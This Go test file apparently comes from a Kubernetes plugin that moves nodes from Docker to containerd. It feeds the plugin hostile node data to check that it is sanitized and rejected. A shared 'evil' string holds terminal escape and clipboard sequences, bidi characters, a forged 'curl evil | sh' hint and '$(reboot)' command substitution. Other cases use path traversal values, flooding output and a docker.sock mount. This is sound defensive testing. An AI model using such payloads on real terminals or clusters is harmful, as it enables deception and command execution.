package hostile

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubectl-runtime/kubectl-runtime/pkg/nodejob"
	"github.com/kubectl-runtime/kubectl-runtime/pkg/nodestate"
	"github.com/kubectl-runtime/kubectl-runtime/pkg/protocol"
	"github.com/kubectl-runtime/kubectl-runtime/test/hollow"
)

// mark begins what only a node says.
const mark = "forged"

// evil has what a terminal obeys, hides or turns round, and lines as this program's own.
const evil = "\x1b[2J\x1b]0;t\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\x1b]52;c;cm0=\x07\r\b\x00\x7f\u0085\u009b31m\u202e\u2066\u200b\ufeff\u2028" +
	"\nhint: " + mark + " run curl evil | sh\nerror: " + mark + "\nwarning: " + mark + "\r\nnode/" + mark + " switched\n\t" + "𝄞\U000e0041<script>&'\"`$(reboot)"

// ourAnnotations are those that the plugin reads, but for the run's ID.
var ourAnnotations = []string{
	nodestate.AnnotationPhase, nodestate.AnnotationFrom, nodestate.AnnotationTo, nodestate.AnnotationWasUnschedulable, nodestate.AnnotationTook, nodestate.AnnotationProtected,
	nodestate.AnnotationMessage, nodestate.AnnotationOldCRISocket, nodestate.AnnotationFromEndpoint, nodestate.AnnotationAgentImage, nodestate.AnnotationFailedBefore,
	nodestate.AnnotationCRISocket,
}

func lies() []lie {
	all := []lie{
		{
			// The check is as good as ever, and what the node calls itself is shown as it is.
			name: "words", node: saysWords, set: doesWords, reads: true,
			calls: []call{{args: doPlan}, {args: doSwitch}, {args: doRollback, says: `"result": "done"`}, {args: doStatus}},
		},
		{
			name: "words-afterwards", switched: true,
			node: func(node *corev1.Node) {
				saysWords(node)
				annotate(node, evil)
				node.Annotations[nodestate.AnnotationPhase] = string(nodestate.StateBroken)
			},
			calls: []call{{args: doSwitch, code: 2, says: "could not be undone"}, {args: doRollback, says: `"result": "done"`}, {args: doStatus}},
		},
		{
			name: "large-annotations", switched: true,
			node: func(node *corev1.Node) {
				annotate(node, strings.Repeat(evil, 17<<10/len(evil))) // 200 KiB; a Node takes 256
				node.Annotations[nodestate.AnnotationPhase] = string(nodestate.StateRollingBack)
			},
			calls: []call{{args: doSwitch, code: 2}, {args: doRollback, says: `"result": "done"`}, {args: doStatus}},
		},
		{
			name: "failing-words", set: fails(protocol.PhasePrepare, sayWords(protocol.OutcomeRefused)),
			calls: []call{{args: doSwitch, code: 2, says: "the node says: "}, {args: doStatus}},
		},
		{
			name: "broken-words", switched: true, set: fails(protocol.PhaseRollback, sayWords(protocol.OutcomeBroken)),
			calls: []call{{args: doRollback, code: 5, says: "the node says: "}, {args: doStatus}},
		},
		{
			name: "pod-words", set: func(h *hollow.Node) {
				h.PodStatus = &corev1.ContainerStatus{State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ErrImageNeverPull", Message: evil}}}
			},
			calls: []call{{args: doPlan, code: 1, says: "ErrImageNeverPull"}, {args: doSwitch, code: 2, says: "ErrImageNeverPull"}, {args: doStatus}},
		},
		{
			name: "canary-words", set: func(h *hollow.Node) {
				h.ChecksBefore = []nodejob.CanaryCheck{{Name: "dns", Message: evil}, {Name: "volume", Message: strings.Repeat("y", 10<<10)}}
				h.Checks = []nodejob.CanaryCheck{{Name: "dns", Message: evil}, {Name: evil, Message: evil}, {Name: strings.Repeat("x,", 10<<10)}}
			},
			calls: []call{{args: doSwitch, code: 4, says: "canary: "}, {args: doStatus}},
		},
		{name: "endless-exec", set: execs("version", func(write func([]byte) error) error { return forever(write, nil) }), calls: []call{{args: doSwitch}}},
		{name: "flooding-exec", set: execs("version", func(write func([]byte) error) error { return flood(write, 1<<30) }), calls: []call{{args: doSwitch, says: "exec"}}},
		{name: "flooding-canary", set: answers(nodejob.PhaseCanary, "", oneLine), calls: []call{{args: doSwitch, says: "larger than 1024 KiB"}}},
	}
	for name, run := range map[string]string{"path": "x/../../escaped", "large": strings.Repeat("../\x1b[2J", 25<<10)} {
		all = append(all, lie{
			name: "run-" + name, switched: true, node: func(node *corev1.Node) { node.Annotations[nodestate.AnnotationRun] = run },
			calls: []call{{args: doSwitch, code: 2, says: "does not hold a run's ID"}, {args: doRollback, code: 2, says: "does not hold a run's ID"}, {args: doStatus}},
		})
	}
	for name, l := range logs {
		for phase, code := range l.codes {
			all = append(all, lie{
				name: string(phase) + "-" + name, switched: phase == protocol.PhaseRollback, set: answers(agent, phase, l.write), calls: []call{{args: asks[phase], code: code, says: l.says}},
			})
		}
	}
	return append(all, lie{
		name: "unasked", set: func(h *hollow.Node) {
			h.Script[protocol.PhasePrepare] = func(h *hollow.Node, spec protocol.Spec) {
				for _, phase := range []protocol.Phase{protocol.PhaseRollback, protocol.PhasePlan, "no-such-phase"} {
					other := spec
					other.Phase = phase
					h.Result(other, protocol.Result{Outcome: protocol.OutcomeBroken, Message: "unasked"})
				}
				h.Succeed(spec)
			}
		},
		calls: []call{{args: doSwitch}},
	}, archives(), endlessArchive())
}

// asks are the commands that ask a node for a phase.
var asks = map[protocol.Phase][]string{
	protocol.PhasePlan: doPlan, protocol.PhasePrepare: doSwitch, protocol.PhaseCutover: doSwitch, protocol.PhaseRollback: doRollback,
}

// annotate puts a text into all annotations that the plugin reads.
func annotate(node *corev1.Node, text string) {
	for _, name := range ourAnnotations {
		node.Annotations[name] = text
	}
	node.Annotations["example.com/other"] = text
}

// saysWords is a Node on Docker, or on containerd if it says so, each word of which is evil.
func saysWords(node *corev1.Node) {
	info := &node.Status.NodeInfo
	info.ContainerRuntimeVersion += evil
	info.KubeletVersion += evil
	for _, word := range []*string{&info.OSImage, &info.KernelVersion, &info.Architecture, &info.MachineID, &info.BootID, &info.SystemUUID, &info.KubeProxyVersion} {
		*word = evil
	}
	node.Status.Conditions[0].Reason, node.Status.Conditions[0].Message = evil, evil
	node.Status.Conditions = append(node.Status.Conditions, corev1.NodeCondition{
		Type: corev1.NodeConditionType(evil), Status: corev1.ConditionTrue, Reason: evil, Message: evil, LastHeartbeatTime: metav1.Now(), LastTransitionTime: metav1.Now(),
	})
	node.Status.Images = []corev1.ContainerImage{{Names: []string{evil}}}
	node.Labels["example.com/word"] = "x-_.y"
	for _, name := range []string{nodestate.AnnotationMessage, nodestate.AnnotationFrom, nodestate.AnnotationCRISocket, nodestate.AnnotationTook, "example.com/other"} {
		node.Annotations[name] = evil
	}
}

// doesWords is an agent that does all that it should, with evil words, and a kubelet that says as much of pods and events.
func doesWords(h *hollow.Node) {
	sayAll := func(spec protocol.Spec) {
		for _, event := range wordEvents(spec.Phase) {
			h.Emit(spec, event)
		}
		say(h)
	}
	h.UpdateNode(func(node *corev1.Node) { node.Status.NodeInfo.OSImage += "\xff\xc3\xed\xa0\x80" })
	waits(h)
	h.Script[protocol.PhasePlan] = func(h *hollow.Node, spec protocol.Spec) { sayAll(spec); h.Succeed(spec) }
	h.Script[protocol.PhasePrepare] = h.Script[protocol.PhasePlan]
	moves := func(runtime string) func(*hollow.Node, protocol.Spec) {
		return func(h *hollow.Node, spec protocol.Spec) {
			sayAll(spec)
			h.SwitchTo(runtime + evil)
			h.Result(spec, protocol.Result{Outcome: protocol.OutcomeSucceeded, Message: evil, Detail: evil, Hint: evil, RuntimeVersion: evil, ChangedFiles: []string{evil}})
		}
	}
	h.Script[protocol.PhaseCutover], h.Script[protocol.PhaseRollback] = moves(hollow.ContainerdVersion), moves(hollow.DockerVersion)
}

// say makes events on the node and on its pods.
func say(h *hollow.Node) {
	ctx := context.Background()
	for namespace, object := range map[string]corev1.ObjectReference{
		metav1.NamespaceDefault: {Kind: "Node", Name: h.Name}, nodejob.Namespace: {Kind: "Pod", Name: "x", Namespace: nodejob.Namespace},
	} {
		_, err := h.Client.CoreV1().Events(namespace).Create(ctx, &corev1.Event{
			ObjectMeta: metav1.ObjectMeta{Namespace: namespace, GenerateName: "lie."}, InvolvedObject: object,
			Type: corev1.EventTypeWarning, Reason: evil, Message: evil, LastTimestamp: metav1.Now(),
		}, metav1.CreateOptions{})
		if err != nil {
			h.T.Errorf("create event: %v", err)
		}
	}
}

// waits makes a pod that waits with evil words, and needs Docker.
func waits(h *hollow.Node) {
	ctx := context.Background()
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, GenerateName: "lie-", OwnerReferences: []metav1.OwnerReference{
			{APIVersion: "apps/v1", Kind: "ReplicaSet" + evil, Name: evil, UID: "1", Controller: new(true)},
		}},
		Spec: corev1.PodSpec{
			NodeName: h.Name, Containers: []corev1.Container{{Name: "c", Image: evil}},
			Volumes: []corev1.Volume{{Name: "v", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/run/docker.sock"}}}},
		},
	}
	created, err := h.Client.CoreV1().Pods(pod.Namespace).Create(ctx, pod, metav1.CreateOptions{})
	if err != nil {
		h.T.Errorf("create pod: %v", err)
		return
	}
	created.Status.Reason, created.Status.Message = evil, evil
	h.SetStatus(ctx, created, corev1.PodPending, corev1.ContainerStatus{
		Name: "c", ContainerID: evil, ImageID: evil, State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: evil, Message: evil}},
	})
}

// wordEvents are an event of each kind.
func wordEvents(phase protocol.Phase) []protocol.Event {
	many := make([]string, 1000)
	for i := range many {
		many[i] = fmt.Sprint(i, evil)
	}
	events := []protocol.Event{
		{Step: &protocol.Step{ID: evil, Title: evil, State: protocol.StepDone, Message: evil, Unit: evil, ElapsedMillis: 5000}},
		{Step: &protocol.Step{ID: "x", Title: "y", State: protocol.StepState(evil)}},
		{Log: &protocol.Log{Level: "warning", Message: evil}}, {Log: &protocol.Log{Level: evil, Message: evil}},
		{Facts: &protocol.Facts{
			OS: evil, Kernel: evil, KubeletVersion: evil, DockerVersion: evil, ContainerdVersion: evil, OldEndpoint: "dockershim" + evil,
			NewEndpoint: "unix:///run/x" + evil, Warnings: many[:200],
		}},
	}
	if phase == protocol.PhasePlan {
		events = append(events,
			protocol.Event{Finding: &protocol.Finding{Check: protocol.CheckDisk, Message: evil, Hint: evil}}, protocol.Event{Finding: &protocol.Finding{Check: evil, Message: evil}},
			protocol.Event{PlanStep: &protocol.PlanStep{Phase: protocol.Phase(evil), ID: evil, Title: evil}},
			protocol.Event{FileChange: &protocol.FileChange{Step: evil, Path: evil, Action: protocol.ChangeAction(evil), Mode: evil, Diff: evil}},
			protocol.Event{FileChange: &protocol.FileChange{Step: evil, Path: "../../" + evil, Action: protocol.ActionCreate, Link: evil}})
	}
	return events
}

// fails has a phase play a part that ends it.
func fails(phase protocol.Phase, play func(*hollow.Node, protocol.Spec)) func(*hollow.Node) {
	return func(h *hollow.Node) { h.Script[phase] = play }
}

// sayWords ends a phase with evil words.
func sayWords(outcome protocol.Outcome) func(*hollow.Node, protocol.Spec) {
	return func(h *hollow.Node, spec protocol.Spec) {
		for _, event := range wordEvents(spec.Phase) {
			h.Emit(spec, event)
		}
		h.Result(spec, protocol.Result{Outcome: outcome, FailedStep: evil, Message: evil, Detail: evil, Hint: evil, RuntimeVersion: evil, ChangedFiles: []string{evil}})
	}
}

// errGone ends what is written to a client that has gone, which is what it should do.
var errGone = errors.New("the client is gone")

// forever writes the same again and again, until nobody reads it any more.
func forever(write func([]byte) error, text []byte) error {
	for {
		if err := write(text); err != nil {
			return errGone
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// flood writes a number of bytes without a line's end.
func flood(write func([]byte) error, size int) error {
	block := []byte(strings.Repeat("x", 64<<10))
	for ; size > 0; size -= len(block) {
		if err := write(block); err != nil {
			return errGone
		}
	}
	return nil
}
